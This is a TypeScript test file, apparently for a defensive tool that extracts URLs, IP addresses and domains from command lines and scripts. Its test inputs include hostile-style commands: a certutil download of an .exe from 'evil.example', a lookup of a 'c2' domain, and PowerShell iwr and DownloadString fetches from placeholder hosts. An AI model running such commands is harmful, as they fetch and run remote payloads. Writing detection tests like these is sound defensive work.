import { describe, expect, it } from 'vitest';
import { hostOf, indicatorsInText } from './indicators-in-text.ts';

describe('indicatorsInText', () => {
  it('finds URLs, addresses and domains in a command line', () => {
    const found = indicatorsInText(
      'certutil -urlcache -f "http://evil.example/a.exe" a.exe & ping 198.51.100.7 & nslookup' +
        ' c2.badsite.top',
    );

    expect(found).toEqual({
      urls: ['http://evil.example/a.exe'],
      ips: ['198.51.100.7'],
      domains: ['evil.example', 'c2.badsite.top'],
    });
  });

  it('does not mistake file names and version numbers for indicators', () => {
    const found = indicatorsInText(
      'powershell.exe -File C:\\x\\setup.ps1 -Version 10.0.19041.1 out.zip',
    );

    expect(found).toEqual({ urls: [], ips: [], domains: [] });
  });

  it('reads only URLs from scripts', () => {
    const found = indicatorsInText(
      "[System.Net.Dns]::GetHostByName('a.example.com'); iwr https://b.example.net/x",
      {
        bare: false,
      },
    );

    expect(found).toEqual({
      urls: ['https://b.example.net/x'],
      ips: [],
      domains: ['b.example.net'],
    });
  });

  it('trims the punctuation that closes a sentence or a quote', () => {
    expect(indicatorsInText("DownloadString('https://x.example/u.ps1')").urls).toEqual([
      'https://x.example/u.ps1',
    ]);
  });
});

describe('hostOf', () => {
  it('returns the lower-cased host or nothing for a broken URL', () => {
    expect([
      hostOf('HTTP://Evil.Example:8080/x'),
      hostOf('http://[2001:db8::1]/'),
      hostOf('http://'),
    ]).toEqual(['evil.example', '2001:db8::1', undefined]);
  });
});
